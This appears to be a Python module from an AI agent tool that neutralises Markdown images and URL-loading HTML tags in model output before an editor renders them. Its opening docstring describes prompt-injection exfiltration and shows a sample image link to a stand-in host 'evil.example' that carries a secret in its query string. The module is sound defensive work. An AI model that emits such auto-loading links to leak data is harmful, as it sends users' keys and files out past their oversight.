"""Markdown images and HTML that load a URL by themselves, made inert in the
model's text an editor renders.

Why: an editor that renders the agent's Markdown (ACP clients do) fetches
``![x](https://evil.example/p.png?k=…)`` or ``<img src=…>`` as soon as it draws
it, with no click and no question: the classic way a prompt-injected model sends
out what it read (a key in a file it was allowed to read), past every egress
check the tools go through. A link needs the user's click, so an image becomes
a link: its ``!`` is escaped (``\\![alt](url)`` renders as "!" and a link; the alt
text and the URL stay readable), and a tag that loads something (``<img``,
``<iframe``…) is shown as text (``&lt;img``).
The TUI and the line mode draw no images and do not need this.

The text arrives in pieces: :class:`ImageDefuser` holds back a piece's end that
could begin a pattern (``!``, ``<ifr``) until the next piece says what it is.
"""

from __future__ import annotations

import re

LOADING_TAGS = (
    "img", "image", "picture", "source", "video", "audio", "iframe", "frame", "embed", "object",
    "link", "script", "svg", "input", "body", "meta", "style", "track",
)
"""HTML elements that fetch a URL when rendered (``input type=image``, ``body background``,
``meta http-equiv=refresh``, ``style`` with ``url()``) — shown as text instead."""

_TAG = re.compile(r"<(?=/?(?:" + "|".join(LOADING_TAGS) + r")(?![a-z0-9-]))", re.IGNORECASE)
_IMAGE = re.compile(r"(\\*)!(?=\[)")
_LONGEST = max(len(t) for t in LOADING_TAGS) + 1  # "<" or "</" and a tag name's letters
_OPEN_END = re.compile(r"(?:\\*!?|</?[a-zA-Z]{0," + str(_LONGEST) + r"})\Z")
"""A piece's end that may begin a pattern: backslashes (they decide whether a ``!``
that follows is escaped already), a ``!``, ``<`` and a tag name's first letters."""


def _escape(match: re.Match[str]) -> str:
    slashes = match.group(1)
    return match.group(0) if len(slashes) % 2 else slashes + "\\!"  # odd: escaped already


def defang_images(text: str) -> str:
    """``text`` with every Markdown image made a link and every loading tag shown as text."""
    if "!" not in text and "<" not in text:
        return text
    return _TAG.sub("&lt;", _IMAGE.sub(_escape, text))


_FENCE_RUN = re.compile(r"[`~]+\Z")


class ImageDefuser:
    """:func:`defang_images` over a stream, outside code: ``feed`` returns what can be
    sent now, ``flush`` the rest at the stream's end. Code (a fenced block, an inline
    code span) is drawn as text by every renderer, so it loads nothing and is left as
    the model wrote it: HTML in a ```` ```html ```` block stays ``<img``."""

    __slots__ = ("_fence", "_held", "_indent", "_span")

    def __init__(self) -> None:
        self._held = ""
        self._fence: tuple[str, int] | None = None  # the open fence's character and length
        self._span = 0  # the open inline code span's backticks (0: none)
        self._indent = 0  # spaces since the line began; -1 once anything else came

    def feed(self, piece: str) -> str:
        text = self._held + piece
        run = _FENCE_RUN.search(text)  # its length decides what it opens or closes
        tail = run if run is not None else _OPEN_END.search(text)
        cut = tail.start() if tail is not None else len(text)
        self._held = text[cut:]
        return self._scan(text[:cut])

    def flush(self) -> str:
        held, self._held = self._held, ""
        return self._scan(held)

    def _in_code(self) -> bool:
        return self._fence is not None or self._span > 0

    def _scan(self, text: str) -> str:
        """``text`` with the parts outside code defanged; the code state carried on."""
        out: list[str] = []
        start = i = 0
        n = len(text)

        def emit(end: int) -> None:
            nonlocal start
            part = text[start:end]
            out.append(part if self._in_code() else defang_images(part))
            start = end

        while i < n:
            ch = text[i]
            if ch not in "`~":
                if ch == "\n":
                    self._indent = 0
                elif ch == " " and 0 <= self._indent < 4:
                    self._indent += 1
                else:
                    self._indent = -1
                i += 1
                continue
            j = i
            while j < n and text[j] == ch:
                j += 1
            run, at_line_start = j - i, 0 <= self._indent < 4
            self._indent = -1
            if self._fence is not None:
                if at_line_start and ch == self._fence[0] and run >= self._fence[1]:
                    emit(j)
                    self._fence = None
            elif self._span:
                if ch == "`" and run == self._span:
                    emit(j)
                    self._span = 0
            elif at_line_start and run >= 3:
                emit(i)
                self._fence = (ch, run)
            elif ch == "`":
                emit(i)
                self._span = run
            i = j
        emit(n)
        return "".join(out)


__all__ = ["LOADING_TAGS", "ImageDefuser", "defang_images"]
